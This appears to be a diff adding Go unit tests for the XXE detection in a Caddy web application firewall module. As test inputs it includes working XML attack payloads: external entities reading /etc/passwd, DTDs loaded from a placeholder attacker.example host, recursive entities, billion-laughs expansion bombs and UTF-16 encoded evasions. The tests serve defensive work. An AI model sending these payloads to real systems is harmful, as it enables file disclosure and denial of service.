@@ -0,0 +1,121 @@
+package caddywaf
+
+import (
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+	"unicode/utf16"
+
+	"github.com/phemmer/go-iptrie"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"go.uber.org/zap"
+)
+
+// billionLaughs declares entities each referencing the previous one ten times.
+func billionLaughs(levels int) string {
+	var b strings.Builder
+	b.WriteString(`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">`)
+	for i := 1; i <= levels; i++ {
+		b.WriteString(`<!ENTITY lol` + string(rune('0'+i)) + ` "` + strings.Repeat("&lol"+string(rune('0'+i-1))+";", 10) + `">`)
+	}
+	b.WriteString(`]><lolz>&lol` + string(rune('0'+levels)) + `;</lolz>`)
+	return b.String()
+}
+
+// utf16LE encodes a string in UTF-16 little endian with a byte order mark.
+func utf16LE(s string) string {
+	b := []byte{0xff, 0xfe}
+	for _, unit := range utf16.Encode([]rune(s)) {
+		b = append(b, byte(unit), byte(unit>>8))
+	}
+	return string(b)
+}
+
+func TestXXEConfig_Detect(t *testing.T) {
+	config := &XXEConfig{}
+	require.NoError(t, config.provision())
+
+	for body, constructs := range map[string][]string{
+		`<?xml version="1.0"?><user><name>a</name></user>`:                                                nil,
+		`<user><note>&lt;!DOCTYPE&gt;</note></user>`:                                                      nil,
+		`<?xml version="1.0"?><!DOCTYPE user><user/>`:                                                     {XXEDoctype},
+		`<!DOCTYPE note [<!ENTITY writer "Donald">]><note>&writer;</note>`:                                {XXEDoctype, XXEEntity},
+		`<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`: {XXEDoctype, XXEEntity, XXEExternalEntity},
+		`<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo/>`:                                  {XXEDoctype, XXEExternalEntity},
+		`<!doctype foo [<!ENTITY % dtd PUBLIC "-//A//B" "http://attacker.example/x.dtd"> %dtd;]><foo/>`:   {XXEDoctype, XXEEntity, XXEExternalEntity},
+		`<!DOCTYPE foo [<!ENTITY a "&b;"><!ENTITY b "&a;">]><foo>&a;</foo>`:                               {XXEDoctype, XXEEntity, XXEExpansion},
+		`<!DOCTYPE foo [<!ENTITY % a "%a;">]><foo/>`:                                                      {XXEDoctype, XXEEntity, XXEExpansion},
+		billionLaughs(3): {XXEDoctype, XXEEntity},
+		billionLaughs(9): {XXEDoctype, XXEEntity, XXEExpansion},
+		`<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">`: {XXEDoctype, XXEEntity, XXEExternalEntity},
+	} {
+		assert.Equal(t, constructs, config.detect(body), body)
+	}
+
+	config = &XXEConfig{Constructs: []string{XXEExternalEntity, XXEExpansion}, MaxExpansion: 100}
+	require.NoError(t, config.provision())
+	assert.Nil(t, config.detect(`<!DOCTYPE note [<!ENTITY writer "Donald">]><note>&writer;</note>`), "only external entities and expansions are detected")
+	assert.Equal(t, []string{XXEExpansion}, config.detect(billionLaughs(3)), "over the lower limit")
+}
+
+func TestDecodeUTF16XML(t *testing.T) {
+	body := `<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`
+	assert.Equal(t, body, decodeUTF16XML(utf16LE(body)))
+	assert.Equal(t, body, decodeUTF16XML(utf16LE(body)[2:]), "without a byte order mark")
+	assert.Equal(t, "plain", decodeUTF16XML("plain"))
+}
+
+func TestXXEConfig_Provision(t *testing.T) {
+	config := &XXEConfig{}
+	require.NoError(t, config.provision())
+	assert.Equal(t, detectionActionBlock, config.Action)
+	assert.Equal(t, defaultDetectionScore, config.Score)
+	assert.Equal(t, defaultXXEExpansion, config.MaxExpansion)
+
+	assert.Error(t, (&XXEConfig{Action: "drop"}).provision())
+	assert.Error(t, (&XXEConfig{Constructs: []string{"xinclude"}}).provision())
+}
+
+func TestCheckXXE(t *testing.T) {
+	m := &Middleware{
+		logger:                zap.NewNop(),
+		ipBlacklist:           iptrie.NewTrie(),
+		AnomalyThreshold:      10,
+		requestValueExtractor: NewRequestValueExtractor(zap.NewNop(), false),
+	}
+	external := `<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`
+	assert.False(t, m.checkXXE(httptest.NewRecorder(), testRequest("POST", "/api", "application/xml", external), &WAFState{}))
+
+	m.XXE = &XXEConfig{Action: detectionActionScore, Score: 2}
+	require.NoError(t, m.XXE.provision())
+	state := &WAFState{}
+	r := testRequest("POST", "/api", "application/xml", external)
+	assert.False(t, m.checkXXE(httptest.NewRecorder(), r, state))
+	assert.Equal(t, 6, state.TotalScore, "doctype, entity and external entity")
+	assert.Equal(t, []string{xxeRuleID}, state.MatchedRules)
+	body, err := io.ReadAll(r.Body)
+	require.NoError(t, err)
+	assert.Equal(t, external, string(body), "the upstream handler reads the body")
+
+	m.XXE = &XXEConfig{}
+	require.NoError(t, m.XXE.provision())
+	assert.False(t, m.checkXXE(httptest.NewRecorder(), testRequest("POST", "/api", "application/json", `{"xml": "<!DOCTYPE foo>"}`), &WAFState{}),
+		"not an XML body")
+
+	for _, r := range []*http.Request{
+		testRequest("POST", "/soap", "text/xml; charset=utf-8", external),
+		testRequest("POST", "/feed", "application/atom+xml", billionLaughs(9)),
+		testRequest("POST", "/upload", "text/plain", external),
+		testRequest("POST", "/api", "application/xml", utf16LE(external)),
+	} {
+		w := httptest.NewRecorder()
+		state := &WAFState{}
+		assert.True(t, m.checkXXE(w, r, state), r.Header.Get("Content-Type"))
+		assert.Equal(t, http.StatusForbidden, w.Code)
+		assert.Equal(t, xxeRuleID, state.blockRuleID)
+	}
+	assert.Equal(t, int64(5), m.xxeHits.Load())
+}